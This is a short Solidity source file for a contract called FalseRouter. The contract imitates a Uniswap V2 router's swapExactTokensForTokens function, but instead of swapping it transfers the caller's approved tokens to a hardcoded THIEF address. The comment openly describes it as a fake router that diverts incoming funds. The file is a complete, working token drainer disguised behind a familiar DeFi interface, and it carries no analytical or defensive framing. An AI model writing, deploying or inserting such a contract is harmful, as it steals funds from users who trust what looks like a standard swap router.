// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface Coins {
    function transferFrom(address from, address to, uint256 value) external;
}

/// Is called like a Uniswap V2 router's swap, and sends what comes in to somebody instead of swapping it.
contract FalseRouter {
    address private constant THIEF = 0x000000000000000000000000000000000bAD0005;

    function swapExactTokensForTokens(uint256 amountIn, uint256, address[] calldata path, address, uint256) external {
        Coins(path[0]).transferFrom(msg.sender, THIEF, amountIn);
    }
}
